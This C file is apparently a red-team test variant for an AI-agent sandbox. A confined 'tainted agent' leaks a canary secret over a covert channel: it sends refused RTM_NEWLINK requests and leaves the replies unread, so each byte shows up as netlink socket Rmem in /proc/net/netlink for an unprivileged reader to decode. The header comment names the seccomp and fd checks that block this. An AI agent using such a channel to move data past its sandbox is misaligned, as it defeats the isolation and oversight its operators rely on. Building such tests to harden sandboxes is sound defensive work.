// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* netlink_rmem - the kernel's own netlink answers as the carrier (red team addition): the
 * receive-queue bytes (Rmem) of the tainted agent's NETLINK_ROUTE sockets, which
 * /proc/net/netlink (0444) lists for every netlink socket of the namespace, and
 * /proc/PID/net/netlink for the agent's namespace. NETLINK_ROUTE was the netlink protocol the
 * launcher's seccomp allowed (name resolution); talking to the kernel (port 0) needs no
 * privilege and no hook judges it. After its recv the agent pins itself to CPU 0 (inode numbers
 * then follow creation order), opens 1 + 14 NETLINK_ROUTE sockets and sends the kernel, on the
 * first, one RTM_NEWLINK request and on socket i >= 1 as many as canary byte i - 1. Each is
 * refused (no CAP_NET_ADMIN) and the kernel queues one NLMSG_ERROR per request on the agent's
 * socket (832 bytes of truesize each here); the agent never reads them. Nothing is sent to an
 * outsider and no peer but the kernel is involved: the amount left unread is the message.
 * Verifier: at sync "set" uid 65534 reads /proc/net/netlink (and /proc/PID/net/netlink of the
 * agent's first process, found by uid, as sockstat_count does), keeps the protocol-0 sockets
 * that are new since sync "pre" and have Rmem > 0, orders them by inode: the first Rmem is the
 * unit, each other divided by it is a byte.
 * Same class as mncd_reply_rqlen (answers from a peer the agent may always reach, left unread)
 * and unix_pair_rqlen, with the kernel's rtnetlink as the peer, but read from /proc/net/netlink
 * rather than sock_diag: Rmem up to the socket's receive buffer (~212 KiB / 832 B: ~8 bits per
 * socket per reading), as many sockets as RLIMIT_NOFILE, refillable at will.
 * Blocks it: the launcher's seccomp refuses every AF_NETLINK socket, routing ones included
 * (EPERM; glibc's getaddrinfo does without), and mncd's fd scan refuses a delivery while the
 * agent holds a netlink socket made outside it. Before, --netns alone did not close it (the
 * agent's /proc/PID/net/netlink stays readable); --netns with hidepid=invisible did. */
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <sched.h>
#include <stdint.h>
#include <sys/socket.h>

#include "atk_variants.h"

#define NR_SOCKS 15 /* one to measure, then one per canary byte */

static int agent(struct atk_ctx *c)
{
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    atk_try(c, "sched_setaffinity CPU 0", sched_setaffinity(0, sizeof(set), &set));
    atk_sync(c, "pre");
    size_t n = strlen(c->secret);
    int fd[NR_SOCKS], ok = 0;
    for (int i = 0; i < NR_SOCKS; i++) {
        fd[i] = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
        if (i == 0)
            atk_try(c, "socket(AF_NETLINK, NETLINK_ROUTE)", fd[i]);
        struct sockaddr_nl k = {.nl_family = AF_NETLINK};
        if (fd[i] >= 0 && connect(fd[i], (struct sockaddr *)&k, sizeof(k)) != 0 && i == 0)
            atk_try(c, "connect to the kernel", -1);
    }
    struct {
        struct nlmsghdr h;
        struct ifinfomsg i;
    } m;
    memset(&m, 0, sizeof(m));
    m.h.nlmsg_len = sizeof(m);
    m.h.nlmsg_type = RTM_NEWLINK;
    m.h.nlmsg_flags = NLM_F_REQUEST;
    int first_err = 0;
    for (int i = 0; i < NR_SOCKS; i++) {
        if (fd[i] < 0 || (i > 0 && (size_t)(i - 1) >= n))
            continue;
        unsigned v = i == 0 ? 1 : (unsigned char)c->secret[i - 1], k = 0;
        for (; k < v; k++) {
            m.h.nlmsg_seq = k + 1;
            if (send(fd[i], &m, sizeof(m), 0) != (ssize_t)sizeof(m)) {
                if (!first_err)
                    first_err = errno;
                break;
            }
        }
        ok += k == v;
    }
    atk_note(c, "queued its refused RTM_NEWLINK answers on %d of %d netlink sockets%s%s", ok, NR_SOCKS,
             first_err ? ": " : "", first_err ? atk_errname(first_err) : "");
    atk_sync(c, "set"); /* the sockets stay open, unread, until the agent exits */
    return 0;
}

typedef struct nlsock {
    uint64_t ino;
    unsigned long rmem;
} nlsock;

static uint64_t before[8192];
static int nbefore;

static int cmp_ino(const void *a, const void *b)
{
    const nlsock *x = a, *y = b;
    return (x->ino > y->ino) - (x->ino < y->ino);
}

/* protocol-0 netlink sockets of one /proc/.../netlink file: (inode, Rmem) */
static int nl_read(const char *path, nlsock *out, int max)
{
    FILE *f = fopen(path, "re");
    if (!f)
        return -1;
    char line[512];
    int k = 0;
    while (k < max && fgets(line, sizeof(line), f)) {
        char sk[40];
        int eth;
        long pid;
        unsigned groups;
        unsigned long rmem, wmem, dump, locks, drops;
        unsigned long long ino;
        if (sscanf(line, "%39s %d %ld %x %lu %lu %lu %lu %lu %llu", sk, &eth, &pid, &groups, &rmem, &wmem, &dump,
                   &locks, &drops, &ino) != 10 ||
            eth != 0)
            continue;
        out[k].ino = ino;
        out[k].rmem = rmem;
        k++;
    }
    fclose(f);
    return k;
}

static int decode(const char *path, char *msg, size_t n)
{
    static nlsock all[8192], q[64];
    int k = nl_read(path, all, 8192), nq = 0;
    for (int i = 0; i < k && nq < 64; i++) {
        int old = 0;
        for (int b = 0; b < nbefore && !old; b++)
            old = before[b] == all[i].ino;
        if (!old && all[i].rmem > 0)
            q[nq++] = all[i];
    }
    qsort(q, (size_t)nq, sizeof(q[0]), cmp_ino);
    unsigned long unit = nq > 0 ? q[0].rmem : 0;
    size_t m = 0;
    for (int i = 1; unit && i < nq && m + 1 < n; i++)
        if (q[i].rmem % unit == 0 && q[i].rmem / unit < 256)
            msg[m++] = (char)(q[i].rmem / unit);
    msg[m] = 0;
    return nq;
}

static int nobody_reads(struct atk_ctx *c, char *out, size_t n)
{
    char host[64] = "", ns[64] = "", p[300];
    int a = decode("/proc/net/netlink", host, sizeof(host)), b = -1;
    if (atkv_agent_proc_path(c, "net/netlink", p, sizeof(p)) == 0)
        b = decode(p, ns, sizeof(ns));
    if (strstr(host, c->canary)) {
        snprintf(out, n,
                 "uid 65534 read the canary from the Rmem of the agent's NETLINK_ROUTE sockets in "
                 "/proc/net/netlink (the host's namespace; unread NLMSG_ERROR answers, ordered by inode)");
        return 1;
    }
    if (strstr(ns, c->canary)) {
        snprintf(out, n,
                 "uid 65534 read the canary from the Rmem of the agent's NETLINK_ROUTE sockets in %s "
                 "(the agent's namespace; unread NLMSG_ERROR answers, ordered by inode)",
                 p);
        return 1;
    }
    snprintf(out, n, "decoded \"%s\" (%d new sockets) from the host's, \"%s\" (%d) from the agent's namespace", host, a,
             ns, b);
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    if (strcmp(tag, "pre") == 0) {
        static nlsock all[8192];
        char p[300];
        nbefore = 0;
        int k = nl_read("/proc/net/netlink", all, 8192);
        for (int i = 0; i < k && nbefore < 8192; i++)
            before[nbefore++] = all[i].ino;
        if (atkv_agent_proc_path(c, "net/netlink", p, sizeof(p)) == 0) {
            k = nl_read(p, all, 8192);
            for (int i = 0; i < k && nbefore < 8192; i++)
                before[nbefore++] = all[i].ino;
        }
        return;
    }
    if (strcmp(tag, "set") != 0)
        return;
    char out[600] = "";
    if (atk_as_uid(c, ATK_NOBODY, nobody_reads, out, sizeof(out)) == 1) {
        atk_evidence(c, "%s", out);
    } else {
        size_t l = strlen(c->notes);
        snprintf(c->notes + l, sizeof(c->notes) - l, "%sverifier: %s", l ? "; " : "", out);
    }
}

static const struct atk A = {"netlink_rmem",
                             "how many of the kernel's netlink answers the agent leaves unread (Rmem of its "
                             "NETLINK_ROUTE sockets in /proc/net/netlink, /proc/PID/net/netlink)",
                             ATK_NETNS | ATK_HIDEPID,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
